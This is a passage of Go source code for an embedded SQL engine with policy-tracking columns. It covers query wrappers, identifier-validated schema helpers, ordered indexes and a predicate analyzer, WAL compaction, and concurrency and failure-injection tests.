	bound, err := argExprs(args)
	if err != nil {
		return nil, err
	}
	out, err := db.channel.Call(queryCallArgs(q, engine, bound))
	if err != nil {
		return nil, err
	}
	if len(out) == 1 {
		if res, ok := out[0].(*Result); ok {
			return res, nil
		}
	}
	// Tracking disabled (or no filter consumed the call): execute raw,
	// still through the plan cache so repeated shapes skip the parser.
	stmt, _, err := db.filter.planner().prepareQuery(q, false, bound)
	if err != nil {
		return nil, err
	}
	raw, affected, err := engine.ExecuteRaw(stmt)
	if err != nil {
		return nil, err
	}
	return fromRaw(raw, affected, false, "")
}

// queryCallArgs builds the channel-call argument list for a text query:
// the historical {query, engine} pair, plus the bound arguments when
// the variadic form was used.
func queryCallArgs(q core.String, engine *Engine, bound []Expr) []any {
	if bound == nil {
		return []any{q, engine}
	}
	return []any{q, engine, bound}
}

// QueryRaw is a convenience wrapper for untracked query text.
func (db *DB) QueryRaw(q string, args ...any) (*Result, error) {
	return db.Query(core.NewString(q), args...)
}

// Exec runs a statement and returns only the number of rows affected —
// the right-sized result for INSERT/UPDATE/DELETE callers that were
// discarding the *Result.
func (db *DB) Exec(q core.String, args ...any) (int, error) {
	res, err := db.Query(q, args...)
	if err != nil {
		return 0, err
	}
	return res.Affected, nil
}

// MustExec runs a query and panics on error; used by application setup
// code for schema creation.
func (db *DB) MustExec(q string) *Result {
	res, err := db.QueryRaw(q)
	if err != nil {
		panic(fmt.Sprintf("sqldb: %s: %v", q, err))
	}
	return res
}
