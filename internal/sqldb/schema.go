package sqldb

import (
	"fmt"
	"strings"
)

// Constant-safe schema helpers. Application boot code used to assemble
// idempotent DDL and existence probes by concatenating table/column
// names into dialect text — exactly the shape resin-vet's sql-concat
// rule forbids, because nothing ties the interpolated name to an
// identifier. These helpers take the names as plain arguments, validate
// them against a strict identifier grammar, and keep the dialect
// assembly inside sqldb where the engine owns the text.

// validIdent enforces the dialect's identifier grammar: an ASCII
// letter or underscore followed by letters, digits, or underscores.
// Anything else — quotes, spaces, parens — cannot smuggle dialect
// structure through the helpers below.
func validIdent(name string) error {
	if name == "" {
		return fmt.Errorf("sqldb: empty identifier")
	}
	for i, r := range name {
		switch {
		case r == '_' || (r >= 'a' && r <= 'z') || (r >= 'A' && r <= 'Z'):
		case i > 0 && r >= '0' && r <= '9':
		default:
			return fmt.Errorf("sqldb: invalid identifier %q", name)
		}
	}
	return nil
}

// HasTable reports whether a table with this name exists
// (case-insensitive, like the rest of the dialect). An invalid
// identifier matches nothing.
func (db *DB) HasTable(name string) bool {
	if validIdent(name) != nil {
		return false
	}
	key := strings.ToLower(name)
	for _, t := range db.Engine().Tables() {
		if strings.ToLower(t) == key {
			return true
		}
	}
	return false
}

// EnsureIndex creates an index on table(col) if one does not already
// exist. It is idempotent, so crash-interrupted boot sequences can
// simply run it again.
func (db *DB) EnsureIndex(table, col string) error {
	if err := validIdent(table); err != nil {
		return err
	}
	if err := validIdent(col); err != nil {
		return err
	}
	indexed, err := db.Engine().Indexes(table)
	if err != nil {
		return err
	}
	key := strings.ToLower(col)
	for _, c := range indexed {
		if strings.ToLower(c) == key {
			return nil
		}
	}
	_, err = db.QueryRaw("CREATE INDEX ON " + table + " (" + col + ")")
	return err
}

// TableEmpty reports whether the table currently has no visible rows.
func (db *DB) TableEmpty(table string) (bool, error) {
	if err := validIdent(table); err != nil {
		return false, err
	}
	res, err := db.QueryRaw("SELECT * FROM " + table + " LIMIT 1")
	if err != nil {
		return false, err
	}
	return res.Len() == 0, nil
}
