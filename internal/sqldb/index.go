package sqldb

import (
	"sort"
	"strconv"
	"strings"
	"sync/atomic"
)

// Ordered indexes and the predicate analyzer.
//
// An orderedIndex keeps the equality bucket map of the original hash
// index — canonical equality key → row ids — and additionally a key
// sequence sorted by valueLess, so the same structure answers three
// kinds of questions:
//
//   - equality probes (`col = literal`), by bucket lookup, as before;
//   - range probes (`<`, `<=`, `>`, `>=`, and `LIKE 'prefix%'`), by
//     binary-searching the sorted sequence and concatenating the
//     buckets of the key span;
//   - ORDER BY pushdown: traversing every bucket in key order emits the
//     whole table in `ORDER BY col` order (NULL bucket first for ASC,
//     last for DESC), so the post-filter sort can be skipped.
//
// Under MVCC the buckets are a *superset*: a row id stays in the bucket
// of a superseded value until vacuum drains the stale reference
// (engine.go), and tombstoned rows keep their pairs until their entries
// are reclaimed. Traversals therefore pair every candidate id with the
// key it was found under, and the snapshot evaluation accepts the pair
// only when the version visible at the reader's snapshot actually
// carries that key — that one rule restores exactness: no duplicates
// across the buckets of a range, and ORDER BY pushdown emits each row
// at its visible key position.
//
// Soundness invariant (docs/SQL.md §4): a probe derived from a conjunct
// on the WHERE AND spine returns a superset of the rows satisfying that
// conjunct, and the engine re-evaluates the full WHERE against every
// candidate. Index use can therefore change only performance — never
// results, row order, or the shadow policy columns that ride along.
// index_property_test.go holds a differential harness pinning exactly
// that against a forced-scan twin — including under concurrent writer
// churn, at one shared snapshot.

// sortCalls counts result post-sorts in SELECT execution. ORDER BY
// pushdown's contract is that an ordered traversal skips the sort;
// tests and benchmarks observe the counter through SortCount to pin
// that down, mirroring ParseCount and TokenizeCount.
var sortCalls atomic.Uint64

// SortCount returns the number of ORDER BY result sorts performed so
// far in this process. A SELECT served in index order does not move it.
func SortCount() uint64 { return sortCalls.Load() }

// limitStops counts LIMIT short-circuits: SELECTs whose candidate walk
// stopped early because k rows were already in final order (an ordered
// traversal, or no ORDER BY). Top-k over an ordered index is O(k), and
// tests observe this counter through LimitStopCount to pin that down.
var limitStops atomic.Uint64

// LimitStopCount returns the number of LIMIT short-circuits so far in
// this process. A SELECT that had to collect (or sort) every matching
// row before truncating does not move it.
func LimitStopCount() uint64 { return limitStops.Load() }

// orderedIndex is an ordered index over one column: equality buckets
// keyed by canonical equality key, plus the distinct non-null values in
// valueLess order. Buckets always hold ascending row ids — ids are
// allocated monotonically and entries append in id order, so bucket
// order is scan-equivalent row order and candidate lists inherit
// stable-sort equivalence without re-sorting. NULLs live only in the
// reserved bucket: no range ever matches NULL, so the sorted sequence
// excludes them; ordered traversals splice the NULL bucket in
// explicitly at the NULLS-first (ASC) or NULLS-last (DESC) end.
//
// Writers under Engine.mu maintain the structure on INSERT, UPDATE and
// CREATE INDEX; DELETE tombstones the row and leaves its pairs for
// vacuum. add is duplicate-safe: re-adding a (value, id) pair that a
// pending stale reference never drained is a no-op.
type orderedIndex struct {
	m    map[string][]uint64
	vals []value // distinct non-null values, sorted by valueLess
}

func newOrderedIndex() *orderedIndex {
	return &orderedIndex{m: make(map[string][]uint64)}
}

// search returns the first position in vals whose value is >= v.
func (ix *orderedIndex) search(v value) int {
	return sort.Search(len(ix.vals), func(i int) bool { return !valueLess(ix.vals[i], v) })
}

func (ix *orderedIndex) add(v value, id uint64) {
	k := indexKey(v)
	bucket, ok := ix.m[k]
	if !ok && !v.null {
		i := ix.search(v)
		ix.vals = append(ix.vals, value{})
		copy(ix.vals[i+1:], ix.vals[i:])
		ix.vals[i] = v
	}
	// Keep ids ascending: INSERT appends monotonically growing ids
	// (fast path); UPDATE moves an existing row into another bucket at
	// an arbitrary id (binary insert). A pair already present — the row
	// moved back to a value whose stale reference has not drained yet —
	// stays single.
	if n := len(bucket); n == 0 || bucket[n-1] < id {
		ix.m[k] = append(bucket, id)
		return
	}
	i := sort.Search(len(bucket), func(i int) bool { return bucket[i] >= id })
	if i < len(bucket) && bucket[i] == id {
		return
	}
	bucket = append(bucket, 0)
	copy(bucket[i+1:], bucket[i:])
	bucket[i] = id
	ix.m[k] = bucket
}

func (ix *orderedIndex) remove(v value, id uint64) {
	k := indexKey(v)
	bucket := ix.m[k]
	i := sort.Search(len(bucket), func(i int) bool { return bucket[i] >= id })
	if i >= len(bucket) || bucket[i] != id {
		return
	}
	bucket = append(bucket[:i], bucket[i+1:]...)
	if len(bucket) > 0 {
		ix.m[k] = bucket
		return
	}
	delete(ix.m, k)
	if !v.null {
		if j := ix.search(v); j < len(ix.vals) && indexKey(ix.vals[j]) == k {
			ix.vals = append(ix.vals[:j], ix.vals[j+1:]...)
		}
	}
}

// span returns the half-open vals range [start, end) covered by the
// given bounds; a nil bound is unbounded on that side.
func (ix *orderedIndex) span(lo, hi *value, loIncl, hiIncl bool) (int, int) {
	start := 0
	if lo != nil {
		if loIncl {
			start = ix.search(*lo)
		} else {
			start = sort.Search(len(ix.vals), func(i int) bool { return valueLess(*lo, ix.vals[i]) })
		}
	}
	end := len(ix.vals)
	if hi != nil {
		if hiIncl {
			end = sort.Search(len(ix.vals), func(i int) bool { return valueLess(*hi, ix.vals[i]) })
		} else {
			end = ix.search(*hi)
		}
	}
	if end < start {
		end = start
	}
	return start, end
}

// indexCand is one candidate an index traversal emitted: a row id and
// the bucket key it was found under. The snapshot evaluation accepts
// the candidate only if the version visible to the reader carries key —
// the tombstone/stale-aware traversal rule (see the package comment).
type indexCand struct {
	key string
	id  uint64
}

// orderedCands returns every (key, id) pair in `ORDER BY col` order:
// keys ascending (descending for desc), the NULL bucket first for ASC
// and last for DESC, each bucket in ascending id order — exactly the
// order a stable sort of the scanned visible rows produces, which is
// what makes skipping that sort result-neutral. Ids superseded under a
// key survive here until vacuum; the visible-key rule drops them.
func (ix *orderedIndex) orderedCands(desc bool) []indexCand {
	nullKey := indexKey(nullValue())
	nulls := ix.m[nullKey]
	out := make([]indexCand, 0, len(ix.vals)+len(nulls))
	appendBucket := func(k string) {
		for _, id := range ix.m[k] {
			out = append(out, indexCand{key: k, id: id})
		}
	}
	if !desc {
		appendBucket(nullKey)
		for _, v := range ix.vals {
			appendBucket(indexKey(v))
		}
		return out
	}
	for i := len(ix.vals) - 1; i >= 0; i-- {
		appendBucket(indexKey(ix.vals[i]))
	}
	appendBucket(nullKey)
	return out
}

// indexProbe is one usable access path the predicate analyzer found: an
// equality key, or a key range (either side optional) on an ordered
// index. The candidates it yields are a superset of the rows matching
// the originating conjunct; the caller re-evaluates the full WHERE and
// applies the visible-key rule.
type indexProbe struct {
	ci             int
	ix             *orderedIndex
	eq             *value
	lo, hi         *value
	loIncl, hiIncl bool
}

// candidates returns the probe's (key, id) pairs. Ordered candidates
// come out in ORDER BY-equivalent key order (asc or desc); unordered
// callers use rowOrderCandidates. Equality buckets are a single key, so
// they are simultaneously in key order and in row order.
func (p *indexProbe) candidates(desc bool) []indexCand {
	if p.eq != nil {
		k := indexKey(*p.eq)
		bucket := p.ix.m[k]
		out := make([]indexCand, 0, len(bucket))
		for _, id := range bucket {
			out = append(out, indexCand{key: k, id: id})
		}
		return out
	}
	start, end := p.ix.span(p.lo, p.hi, p.loIncl, p.hiIncl)
	var out []indexCand
	appendBucket := func(k string) {
		for _, id := range p.ix.m[k] {
			out = append(out, indexCand{key: k, id: id})
		}
	}
	if desc {
		for i := end - 1; i >= start; i-- {
			appendBucket(indexKey(p.ix.vals[i]))
		}
		return out
	}
	for i := start; i < end; i++ {
		appendBucket(indexKey(p.ix.vals[i]))
	}
	return out
}

// rowOrderCandidates returns the probe's candidates in ascending row id
// order — the order a scan would visit them. A row whose value moved
// between two keys of the range appears once per key; the visible-key
// rule keeps exactly one.
func (p *indexProbe) rowOrderCandidates() []indexCand {
	cand := p.candidates(false)
	if p.eq == nil {
		sort.Slice(cand, func(i, j int) bool { return cand[i].id < cand[j].id })
	}
	return cand
}

// colBounds accumulates the analyzable constraints on one column while
// walking the AND spine. Conjuncts only ever tighten: the tightest lo
// and hi survive, and the first equality wins outright (an equality
// bucket is a superset of the rows matching *all* conjuncts on the
// column, since rows matching the WHERE must match each conjunct).
type colBounds struct {
	ci             int
	eq             *value
	lo, hi         *value
	loIncl, hiIncl bool
}

func (cb *colBounds) addLo(v value, incl bool) {
	if cb.lo == nil || valueCompare(v, *cb.lo) > 0 || (valueCompare(v, *cb.lo) == 0 && !incl) {
		cb.lo, cb.loIncl = &v, incl
	}
}

func (cb *colBounds) addHi(v value, incl bool) {
	if cb.hi == nil || valueCompare(v, *cb.hi) < 0 || (valueCompare(v, *cb.hi) == 0 && !incl) {
		cb.hi, cb.hiIncl = &v, incl
	}
}

// eqLiteral converts an equality operand into a probe value. Any
// literal kind works: equality buckets key on rendered form, matching
// valueCompare's coercion (int 1 and text '1' share a key).
func eqLiteral(lit Expr) (value, bool) {
	switch v := lit.(type) {
	case *StringLit:
		return textValue(v.Val.Raw()), true
	case *IntLit:
		return intValue(v.Val), true
	}
	return value{}, false
}

// rangeLiteral converts a range operand into a probe value, requiring
// the comparison the scan would perform to agree with the index order.
// An INT column's index is in numeric order and its cells compare
// numerically only against integer literals — `col < '10'` compares
// *textually* under the dialect's coercion, so string bounds on INT
// columns fall back to the scan. TEXT columns compare textually against
// every literal (integer operands render to digits), matching their
// index order, so both kinds are usable.
func rangeLiteral(lit Expr, typ ColType) (value, bool) {
	switch v := lit.(type) {
	case *IntLit:
		if typ == ColInt {
			return intValue(v.Val), true
		}
		return textValue(strconv.FormatInt(v.Val, 10)), true
	case *StringLit:
		if typ == ColInt {
			return value{}, false
		}
		return textValue(v.Val.Raw()), true
	}
	return value{}, false
}

// likePrefix extracts the literal prefix of a LIKE pattern usable as a
// key range: the pattern must end in `%`, the prefix before it must be
// non-empty (an empty prefix matches everything — no range to probe)
// and wildcard-free. likeMatch treats every other byte literally (there
// is no escape syntax), so `prefix ≤ s < successor(prefix)` in byte
// order is exactly the set of strings the pattern's prefix admits.
func likePrefix(pattern string) (string, bool) {
	if len(pattern) < 2 || pattern[len(pattern)-1] != '%' {
		return "", false
	}
	prefix := pattern[:len(pattern)-1]
	if strings.ContainsAny(prefix, "%_") {
		return "", false
	}
	return prefix, true
}

// prefixSuccessor returns the smallest string greater than every string
// with the given prefix — the prefix with its last non-0xff byte
// incremented. An all-0xff prefix has no successor (unbounded above).
func prefixSuccessor(prefix string) (string, bool) {
	b := []byte(prefix)
	for i := len(b) - 1; i >= 0; i-- {
		if b[i] < 0xff {
			b[i]++
			return string(b[:i+1]), true
		}
	}
	return "", false
}

// collectBounds walks the AND spine of a WHERE expression accumulating
// per-column constraints from `=`, range, and `LIKE 'prefix%'`
// conjuncts over indexed columns. Anything else — OR, NOT, un-indexed
// columns, kind-mismatched literals, NULL literals (no comparison
// matches NULL) — contributes nothing and is left to the re-evaluation
// of the full WHERE.
func (t *table) collectBounds(ex Expr, cons []colBounds) []colBounds {
	b, ok := ex.(*Binary)
	if !ok {
		return cons
	}
	if b.Op == "AND" {
		return t.collectBounds(b.R, t.collectBounds(b.L, cons))
	}
	op := b.Op
	var cr *ColumnRef
	var lit Expr
	if c, isCol := b.L.(*ColumnRef); isCol {
		cr, lit = c, b.R
	} else if c, isCol := b.R.(*ColumnRef); isCol {
		cr, lit = c, b.L
		switch op { // mirror: `5 < col` is `col > 5`
		case "<":
			op = ">"
		case "<=":
			op = ">="
		case ">":
			op = "<"
		case ">=":
			op = "<="
		case "LIKE":
			return cons // a column used as the pattern is not a prefix probe
		}
	} else {
		return cons
	}
	// Qualified references ("t.c" on this table) probe like plain ones;
	// references that do not resolve here contribute nothing and fall
	// back to the scan (the full WHERE still re-evaluates them).
	ci, err := t.resolveCol(cr.Name)
	if err != nil || t.indexes[ci] == nil {
		return cons
	}
	var cb *colBounds
	for i := range cons {
		if cons[i].ci == ci {
			cb = &cons[i]
			break
		}
	}
	if cb == nil {
		cons = append(cons, colBounds{ci: ci})
		cb = &cons[len(cons)-1]
	}
	switch op {
	case "=":
		if v, ok := eqLiteral(lit); ok && cb.eq == nil {
			cb.eq = &v
		}
	case "<", "<=", ">", ">=":
		v, ok := rangeLiteral(lit, t.cols[ci].Type)
		if !ok {
			return cons
		}
		switch op {
		case "<":
			cb.addHi(v, false)
		case "<=":
			cb.addHi(v, true)
		case ">":
			cb.addLo(v, false)
		case ">=":
			cb.addLo(v, true)
		}
	case "LIKE":
		sl, isStr := lit.(*StringLit)
		if !isStr || t.cols[ci].Type != ColText {
			return cons // digit-string order ≠ numeric order on INT columns
		}
		prefix, ok := likePrefix(sl.Val.Raw())
		if !ok {
			return cons
		}
		cb.addLo(textValue(prefix), true)
		if succ, bounded := prefixSuccessor(prefix); bounded {
			cb.addHi(textValue(succ), false)
		}
	}
	return cons
}

// analyzeProbe is the predicate analyzer: it inspects the AND spine of
// a WHERE expression and returns the best usable index access path, or
// nil when every conjunct falls back to the scan. Preference order:
// an equality probe (single bucket), then a two-sided range, then any
// one-sided range — ties in first-seen spine order, so the choice is
// deterministic.
func (t *table) analyzeProbe(where Expr) *indexProbe {
	if where == nil || len(t.indexes) == 0 {
		return nil
	}
	cons := t.collectBounds(where, nil)
	best := -1
	score := func(cb *colBounds) int {
		switch {
		case cb.eq != nil:
			return 3
		case cb.lo != nil && cb.hi != nil:
			return 2
		case cb.lo != nil || cb.hi != nil:
			return 1
		}
		return 0
	}
	for i := range cons {
		if s := score(&cons[i]); s > 0 && (best < 0 || s > score(&cons[best])) {
			best = i
		}
	}
	if best < 0 {
		return nil
	}
	cb := &cons[best]
	return &indexProbe{
		ci: cb.ci, ix: t.indexes[cb.ci],
		eq: cb.eq, lo: cb.lo, hi: cb.hi, loIncl: cb.loIncl, hiIncl: cb.hiIncl,
	}
}
