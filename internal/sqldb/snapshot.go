package sqldb

import (
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"sort"
)

// Snapshot + compaction: the log grows with every mutation, so replay
// cost is history-shaped until compaction rewrites it as the minimal
// record sequence that rebuilds the *current* state — one CREATE TABLE
// per table (shadow policy columns included, since they are ordinary
// columns by the time they reach the engine), batched row-ops records
// carrying the live rows *with their stable ids* (so scan order and
// index buckets rebuild identically), and one CREATE INDEX per index.
// The rewrite goes to a temp file first and renames over the log, so a
// crash during compaction leaves either the old log or the new one,
// never a mix. Compaction dumps only the newest committed versions;
// open snapshots are unaffected because they read the in-memory chains,
// which vacuum reclaims on its own registered-snapshot schedule.

// snapshotBatchRows and snapshotBatchBytes bound one dumped row-ops
// record — by row count and by approximate encoded size — so a large or
// wide table compacts into records comfortably inside walMaxRecord.
const (
	snapshotBatchRows  = 256
	snapshotBatchBytes = 1 << 20
)

// ErrNoWAL is returned by Compact on an in-memory database.
var ErrNoWAL = errors.New("sqldb: in-memory database has no WAL")

func (e *Engine) compactWAL() error {
	e.mu.Lock()
	defer e.mu.Unlock()
	if e.wal == nil {
		return ErrNoWAL
	}
	if err := e.wal.usable(); err != nil {
		return err
	}
	// Compaction is a natural reclamation point: prune whatever no
	// registered snapshot still needs before dumping.
	e.vacuum()
	return e.wal.rewrite(e.dumpPayloads())
}

// dumpPayloads serializes the engine's current state as replayable v2
// record payloads, in deterministic order (tables and index columns
// sorted; rows in ascending-id scan order).
func (e *Engine) dumpPayloads() [][]byte {
	names := make([]string, 0, len(e.tables))
	for n := range e.tables {
		names = append(names, n)
	}
	sort.Strings(names)
	frontier := e.frontier.Load()
	var out [][]byte
	for _, key := range names {
		t := e.tables[key]
		out = append(out, stmtPayload((&CreateTable{Table: t.name, Cols: t.cols}).SQL()))
		var batch []rowOp
		batchBytes := 0
		flush := func() {
			if len(batch) > 0 {
				out = append(out, opsPayload(batch))
			}
			batch, batchBytes = nil, 0
		}
		for _, en := range t.entries {
			v := en.visible(frontier)
			if v == nil {
				continue
			}
			batch = append(batch, rowOp{kind: opInsert, table: key, id: en.id, vals: v.vals})
			for _, val := range v.vals {
				batchBytes += len(val.s) + 16 // tag/varint framing slop
			}
			if len(batch) >= snapshotBatchRows || batchBytes >= snapshotBatchBytes {
				flush()
			}
		}
		flush()
		var ixCols []string
		for ci := range t.indexes {
			ixCols = append(ixCols, t.cols[ci].Name)
		}
		sort.Strings(ixCols)
		for _, c := range ixCols {
			out = append(out, stmtPayload((&CreateIndex{Table: t.name, Column: c}).SQL()))
		}
	}
	return out
}

// rewrite atomically replaces the log's contents with the given record
// payloads: write a temp file, fsync it, rename over the log path,
// fsync the directory, then swap file handles. Called under the owning
// engine's write lock, so no append can interleave.
func (w *wal) rewrite(payloads [][]byte) error {
	tmp := w.path + ".compact"
	f, size, err := writeWALFile(tmp, payloads)
	if err != nil {
		return fmt.Errorf("sqldb: compact: %w", err)
	}
	if err := os.Rename(tmp, w.path); err != nil {
		f.Close()
		os.Remove(tmp)
		return fmt.Errorf("sqldb: compact rename: %w", err)
	}
	// Persist the rename; best-effort on filesystems without directory
	// handles. The data itself is already fsynced.
	if dir, derr := os.Open(filepath.Dir(w.path)); derr == nil {
		dir.Sync() //nolint:errcheck
		dir.Close()
	}
	w.f.Close() //nolint:errcheck // old log fd; its inode is now unlinked
	w.f = f
	w.size = size
	w.pending = 0
	// Offsets into the old log are meaningless now; bump the epoch so
	// shipping streams re-handshake, and wake any waiter so it notices.
	w.epoch++
	w.signal()
	return nil
}
