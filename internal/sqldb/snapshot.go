package sqldb

import (
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"sort"

	"resin/internal/core"
)

// Snapshot + compaction: the log grows with every mutation, so replay
// cost is history-shaped until compaction rewrites it as the minimal
// statement sequence that rebuilds the *current* state — one CREATE
// TABLE per table (shadow policy columns included, since they are
// ordinary columns by the time they reach the engine), batched INSERTs
// of the live rows, and one CREATE INDEX per index. The rewrite goes to
// a temp file first and renames over the log, so a crash during
// compaction leaves either the old log or the new one, never a mix.

// snapshotBatchRows and snapshotBatchBytes bound one dumped INSERT —
// by row count and by approximate rendered size — so a large or wide
// table compacts into records comfortably inside walMaxRecord.
const (
	snapshotBatchRows  = 256
	snapshotBatchBytes = 1 << 20
)

// ErrNoWAL is returned by Compact on an in-memory database.
var ErrNoWAL = errors.New("sqldb: in-memory database has no WAL")

func (e *Engine) compactWAL() error {
	e.mu.Lock()
	defer e.mu.Unlock()
	if e.wal == nil {
		return ErrNoWAL
	}
	if err := e.wal.usable(); err != nil {
		return err
	}
	return e.wal.rewrite(e.dumpStatements())
}

// dumpStatements serializes the engine's state as replayable dialect
// text, in deterministic order (tables and index columns sorted).
func (e *Engine) dumpStatements() []string {
	names := make([]string, 0, len(e.tables))
	for n := range e.tables {
		names = append(names, n)
	}
	sort.Strings(names)
	var out []string
	for _, key := range names {
		t := e.tables[key]
		out = append(out, (&CreateTable{Table: t.name, Cols: t.cols}).SQL())
		cols := make([]string, len(t.cols))
		for i, c := range t.cols {
			cols[i] = c.Name
		}
		ins := &Insert{Table: t.name, Columns: cols}
		batchBytes := 0
		flush := func() {
			if len(ins.Rows) > 0 {
				out = append(out, ins.SQL())
			}
			ins = &Insert{Table: t.name, Columns: cols}
			batchBytes = 0
		}
		for _, row := range t.rows {
			exprs := make([]Expr, len(row))
			for i, v := range row {
				exprs[i] = valueExpr(v)
				batchBytes += len(v.s) + 24 // quoting/framing slop
			}
			ins.Rows = append(ins.Rows, exprs)
			if len(ins.Rows) >= snapshotBatchRows || batchBytes >= snapshotBatchBytes {
				flush()
			}
		}
		flush()
		var ixCols []string
		for ci := range t.indexes {
			ixCols = append(ixCols, t.cols[ci].Name)
		}
		sort.Strings(ixCols)
		for _, c := range ixCols {
			out = append(out, (&CreateIndex{Table: t.name, Column: c}).SQL())
		}
	}
	return out
}

// valueExpr renders a stored cell back into the literal expression that
// recreates it (the dialect's coercion makes this lossless: ints render
// as digits into INT columns, text stays text).
func valueExpr(v value) Expr {
	switch {
	case v.null:
		return &NullLit{}
	case v.isInt:
		return &IntLit{Val: v.i}
	default:
		return &StringLit{Val: core.NewString(v.s)}
	}
}

// rewrite atomically replaces the log's contents with stmts: write a
// temp file, fsync it, rename over the log path, fsync the directory,
// then swap file handles. Called under the owning engine's write lock,
// so no append can interleave.
func (w *wal) rewrite(stmts []string) error {
	tmp := w.path + ".compact"
	f, size, err := writeWALFile(tmp, stmts)
	if err != nil {
		return fmt.Errorf("sqldb: compact: %w", err)
	}
	if err := os.Rename(tmp, w.path); err != nil {
		f.Close()
		os.Remove(tmp)
		return fmt.Errorf("sqldb: compact rename: %w", err)
	}
	// Persist the rename; best-effort on filesystems without directory
	// handles. The data itself is already fsynced.
	if dir, derr := os.Open(filepath.Dir(w.path)); derr == nil {
		dir.Sync() //nolint:errcheck
		dir.Close()
	}
	w.f.Close() //nolint:errcheck // old log fd; its inode is now unlinked
	w.f = f
	w.size = size
	w.pending = 0
	return nil
}
