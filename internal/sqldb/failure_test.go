package sqldb

import (
	"testing"

	"resin/internal/core"
	"resin/internal/sanitize"
)

// Failure injection for the SQL policy persistence layer.

func TestCorruptedPolicyColumnFailsSelect(t *testing.T) {
	db := openDB(t)
	db.MustExec("CREATE TABLE t (a TEXT)")
	db.MustExec("INSERT INTO t (a) VALUES ('v')")
	// Corrupt the policy column directly (as a broken migration would).
	db.MustExec("UPDATE t SET __policy_a = '{{{corrupt'")
	if _, err := db.QueryRaw("SELECT a FROM t"); err == nil {
		t.Fatal("corrupted policy column must fail the select")
	}
}

func TestUnknownClassInPolicyColumnFailsSelect(t *testing.T) {
	db := openDB(t)
	db.MustExec("CREATE TABLE t (a TEXT)")
	db.MustExec("INSERT INTO t (a) VALUES ('v')")
	db.MustExec(`UPDATE t SET __policy_a = '[{"start":0,"end":1,"policies":[{"class":"gone.Class","fields":{}}]}]'`)
	if _, err := db.QueryRaw("SELECT a FROM t"); err == nil {
		t.Fatal("unknown policy class must fail the select")
	}
}

func TestUnregisteredPolicyCannotBeInserted(t *testing.T) {
	db := openDB(t)
	db.MustExec("CREATE TABLE t (a TEXT)")
	bad := core.NewStringPolicy("v", &unregisteredSQLPolicy{})
	q := core.Concat(core.NewString("INSERT INTO t (a) VALUES ("), sanitize.SQLQuote(bad), core.NewString(")"))
	if _, err := db.Query(q); err == nil {
		t.Fatal("inserting an unregistered policy must fail, not drop it")
	}
	res, err := db.QueryRaw("SELECT a FROM t")
	if err != nil {
		t.Fatal(err)
	}
	if res.Len() != 0 {
		t.Error("failed insert must not store the row")
	}
}

type unregisteredSQLPolicy struct{}

func (p *unregisteredSQLPolicy) ExportCheck(ctx *core.Context) error { return nil }

func TestFilterArgumentValidation(t *testing.T) {
	f := &ResinSQLFilter{}
	ch := core.NewChannel(core.NewRuntime(), core.KindSQL)
	if _, err := f.FilterFunc(ch, []any{core.NewString("q")}); err == nil {
		t.Error("wrong arity must fail")
	}
	if _, err := f.FilterFunc(ch, []any{"not tracked", NewEngine()}); err == nil {
		t.Error("untracked query arg must fail")
	}
	if _, err := f.FilterFunc(ch, []any{core.NewString("q"), "not engine"}); err == nil {
		t.Error("non-engine arg must fail")
	}
}

func TestSelectingPolicyColumnDirectly(t *testing.T) {
	// An application (or attacker) may name the shadow column explicitly;
	// the filter treats it as opaque data and does not re-interpret it.
	db := openDB(t)
	db.MustExec("CREATE TABLE t (a TEXT)")
	p := &passwordPolicy{Email: "e"}
	q := core.Concat(core.NewString("INSERT INTO t (a) VALUES ("),
		sanitize.SQLQuote(core.NewStringPolicy("v", p)), core.NewString(")"))
	if _, err := db.Query(q); err != nil {
		t.Fatal(err)
	}
	res, err := db.QueryRaw("SELECT __policy_a FROM t")
	if err != nil {
		t.Fatal(err)
	}
	raw := res.Get(0, "__policy_a").Str.Raw()
	if raw == "" {
		t.Error("policy column should hold the serialized annotation")
	}
}
