package sqldb

import (
	"path/filepath"
	"reflect"
	"sync"
	"testing"

	"resin/internal/core"
	"resin/internal/sanitize"
)

// TestWALConcurrentWritersReadersCompaction drives concurrent
// prepared-statement writers appending to the WAL, readers querying, and
// snapshot/compaction running mid-flight — the -race CI run watches the
// lock discipline (appends inside the engine's write critical section,
// compaction swapping file handles under the same lock). A final
// restart proves the log stayed coherent under the interleaving.
func TestWALConcurrentWritersReadersCompaction(t *testing.T) {
	path := filepath.Join(t.TempDir(), "race.wal")
	rt := core.NewRuntime()
	db := openWALDB(t, rt, path)
	db.MustExec("CREATE TABLE t (id INT, val TEXT)")
	db.MustExec("CREATE INDEX ON t (id)")
	db.SetWALGroupCommit(8)

	ins := db.MustPrepare("INSERT INTO t (id, val) VALUES (?, ?)")
	upd := db.MustPrepare("UPDATE t SET val = ? WHERE id = ?")
	sel := db.MustPrepare("SELECT id, val FROM t WHERE id = ?")

	const writers, perWriter, readers = 4, 40, 4
	var wg sync.WaitGroup
	for w := 0; w < writers; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for i := 0; i < perWriter; i++ {
				id := w*perWriter + i
				tainted := core.NewStringPolicy("payload", &sanitize.UntrustedData{Source: "race"})
				if _, err := ins.Exec(id, tainted); err != nil {
					t.Errorf("writer %d: %v", w, err)
					return
				}
				if i%4 == 0 {
					if _, err := upd.Exec("updated", id); err != nil {
						t.Errorf("writer %d update: %v", w, err)
						return
					}
				}
			}
		}(w)
	}
	for r := 0; r < readers; r++ {
		wg.Add(1)
		go func(r int) {
			defer wg.Done()
			for i := 0; i < perWriter*2; i++ {
				if _, err := sel.Query(i % (writers * perWriter)); err != nil {
					t.Errorf("reader %d: %v", r, err)
					return
				}
			}
		}(r)
	}
	wg.Add(1)
	go func() {
		defer wg.Done()
		for i := 0; i < 6; i++ {
			if err := db.Compact(); err != nil {
				t.Errorf("mid-flight compaction: %v", err)
				return
			}
		}
	}()
	// Transactions committing while direct writers append: the commit's
	// log handoff runs under the engine write lock, so the race detector
	// watches the contested path (and conflicted commits exercise the
	// rewrite-from-state branch).
	wg.Add(1)
	go func() {
		defer wg.Done()
		for i := 0; i < 10; i++ {
			tx := db.Begin()
			if _, err := tx.QueryRaw("INSERT INTO t (id, val) VALUES (?, ?)", 100000+i, "tx"); err != nil {
				t.Errorf("tx writer: %v", err)
				return
			}
			if i%3 == 0 {
				if err := tx.Rollback(); err != nil {
					t.Errorf("tx rollback: %v", err)
				}
				continue
			}
			if err := tx.Commit(); err != nil {
				t.Errorf("tx commit: %v", err)
				return
			}
		}
	}()
	wg.Wait()
	// A quiesced write with a policy, then the real invariant: whatever
